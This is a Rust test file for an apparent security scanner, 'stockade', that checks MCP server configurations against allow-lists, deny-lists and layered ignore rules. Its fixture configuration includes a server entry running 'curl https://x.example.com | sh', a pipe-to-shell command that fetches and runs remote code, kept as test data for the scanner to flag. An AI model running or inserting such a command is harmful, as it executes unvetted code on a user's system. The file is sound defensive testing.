//! The checks in a whole scan, and which ignores may accept what they find.

use std::fs;

use stockade_model::{Confidence, Os, Severity};
use stockade_scan::ignore::Rule;
use stockade_scan::{Options, Report, scan};

use super::*;

const CONFIG: &str = r#"{ "mcpServers": {
  "good": { "command": "npx", "args": ["-y", "good@1.0.0"] },
  "other": { "command": "npx", "args": ["-y", "other@1.0.0"] }, // stockade: ignore[unlisted-server] we like it
  "bridge": { "command": "npx", "args": ["-y", "mcp-remote@0.1.16", "https://mcp.example.com/mcp"] },
  "shell": { "command": "sh", "args": ["-c", "curl https://x.example.com | sh"] }
} }"#;

struct Place {
    dir: tempfile::TempDir,
}

impl Place {
    fn new() -> Self {
        let dir = tempfile::tempdir().unwrap();
        fs::create_dir_all(dir.path().join("home/project/.cursor")).unwrap();
        fs::write(dir.path().join("home/project/.cursor/mcp.json"), CONFIG).unwrap();
        Self { dir }
    }

    fn project(&self) -> PathBuf {
        self.dir.path().join("home/project")
    }

    fn list(&self, layer: Layer, text: &str) -> List {
        let project = self.project();
        let within = (layer == Layer::Project).then_some(project.as_path());
        let file = within.unwrap_or(Path::new("/settings")).join("stockade.toml");
        list_of(&Owner { file: &file, text: text.into(), layer, within, home: None }).unwrap().unwrap()
    }

    fn ignore(&self, layer: Layer, check: &str) -> Rule {
        let origin = self.list(Layer::User, "[servers]\nunlisted = \"warn\"").unlisted.unwrap().1;
        let within = (layer == Layer::Project).then(|| self.project());
        let (check, reason) = (check.to_owned(), "accepted".to_owned());
        Rule { check, place: None, reason, expires: None, within, layer, origin }
    }

    fn scan(&self, lists: Vec<List>, ignores: Vec<Rule>) -> Report {
        let mut options = Options::foreign(self.dir.path().join("home"), Os::Linux);
        options.projects = vec![self.project()];
        options.today = TODAY;
        options.allow_lists = AllowLists { lists };
        options.ignores = ignores;
        scan(&options, &|_| {})
    }
}

fn of<'a>(report: &'a Report, check: &str) -> Vec<&'a stockade_model::Finding> {
    report.findings.iter().filter(|finding| finding.check == check).collect()
}

const APPROVES: &str = "[[servers.allow]]\npurl = \"pkg:npm/good\"\n";

#[test]
fn severity_follows_the_list_and_every_part_is_judged() {
    let place = Place::new();
    for (word, severity) in [("warn", Severity::Low), ("ask", Severity::Medium), ("deny", Severity::High)] {
        let text = format!("[servers]\nunlisted = \"{word}\"\n{APPROVES}");
        let report = place.scan(vec![place.list(Layer::User, &text)], Vec::new());
        let found = of(&report, "unlisted-server");
        assert!(found.iter().all(|finding| finding.severity == severity && finding.confidence == Confidence::High));
        let mut names: Vec<&str> = found.iter().map(|finding| finding.message.split('`').nth(1).unwrap()).collect();
        names.sort_unstable();
        // The bridge and what stands behind it; what a shell downloads is on no list.
        assert_eq!(names[..3], ["bridge", "bridge", "other"], "{word}");
        assert!(names[3..].iter().all(|name| *name == "shell") && names.len() > 3, "{names:?}");
    }
    assert!(of(&place.scan(Vec::new(), Vec::new()), "unlisted-server").is_empty());
}

#[test]
fn a_finding_points_at_the_entries() {
    let place = Place::new();
    let text = "[servers]\nunlisted = \"deny\"\n[[servers.allow]]\npurl = \"pkg:npm/other@2.0.0\"\n";
    let report = place.scan(vec![place.list(Layer::Project, text)], vec![]);
    let finding = of(&report, "unlisted-server").into_iter().find(|f| f.message.contains("`other`")).map(drop);
    // The comment of a project counts as much as its own list.
    assert_eq!(finding, None);
    let good = of(&report, "unlisted-server").into_iter().find(|f| f.message.contains("`good`")).unwrap();
    assert_eq!(good.package.as_deref(), Some("pkg:npm/good@1.0.0"));
    let labels: Vec<&str> = good.related.iter().map(|(_, label)| label.as_str()).collect();
    assert_eq!(labels, ["decides"]);
    let path = good.related[0].0.path(&report.inventory.sources).unwrap();
    assert_eq!(path, place.project().join("stockade.toml"));
}

#[test]
fn an_ignore_counts_only_from_the_lists_own_layer_up() {
    let place = Place::new();
    let layers = [Layer::Project, Layer::User, Layer::Managed];
    for check in ["unlisted-server", "denied-server"] {
        for owner in layers {
            let text = if check == "denied-server" { "[[servers.deny]]\npurl = \"pkg:npm/other\"\n" } else { APPROVES };
            for layer in layers {
                let report = place.scan(vec![place.list(owner, text)], vec![place.ignore(layer, check)]);
                assert_eq!(of(&report, check).is_empty(), layer >= owner, "{check}: {layer} ignores what {owner} says");
                let stale = of(&report, "stale-ignore");
                let told = stale.iter().any(|f| f.message.contains("does not count: the list is"));
                assert_eq!(told, layer < owner, "{stale:#?}");
            }
            // A comment in the project's config is the project's word.
            let report = place.scan(vec![place.list(owner, text)], Vec::new());
            let other = report.suppressed.iter().any(|s| s.finding.check == "unlisted-server");
            assert_eq!(other, check == "unlisted-server" && owner == Layer::Project, "{check} {owner}");
        }
    }
}

#[test]
fn a_denied_package_is_found_in_a_lock_file_too() {
    let place = Place::new();
    let lock =
        r#"{ "lockfileVersion": 3, "packages": { "": {}, "node_modules/mcp-remote": { "version": "0.1.15" } } }"#;
    fs::write(place.project().join("package-lock.json"), lock).unwrap();
    let text = "[[servers.deny]]\npurl = \"pkg:npm/mcp-remote\"\nversions = \"<0.1.16\"\nreason = \"CVE-2025-6514\"\n";
    let report = place.scan(vec![place.list(Layer::Managed, text)], Vec::new());
    let found = of(&report, "denied-server");
    assert_eq!(found.len(), 1, "{found:#?}");
    assert_eq!(found[0].message, "`pkg:npm/mcp-remote@0.1.15` is on the managed deny-list: CVE-2025-6514");
}

#[test]
fn a_flag_that_changes_where_packages_come_from_is_approved_by_no_entry() {
    let place = Place::new();
    let config = r#"{ "mcpServers": {
      "own": { "command": "go", "args": ["run", "git.example/acme/x@v1.0.0"] },
      "sent": { "command": "go", "args": ["run", "-modfile=other.mod", "git.example/acme/x@v1.0.0"] }
    } }"#;
    fs::write(place.project().join(".cursor/mcp.json"), config).unwrap();
    let text = "[[servers.allow]]\npurl = \"pkg:golang/git.example/acme/*\"\n";
    let report = place.scan(vec![place.list(Layer::User, text)], Vec::new());
    let found: Vec<(&str, &str)> = of(&report, "unlisted-server")
        .into_iter()
        .map(|finding| (finding.message.split('`').nth(1).unwrap(), finding.evidence[1].as_str()))
        .collect();
    assert_eq!(found.len(), 1, "{found:?}");
    assert_eq!(found[0].0, "sent");
    assert!(found[0].1.contains("`-modfile` with `other.mod` changes where it comes from"), "{found:?}");
}
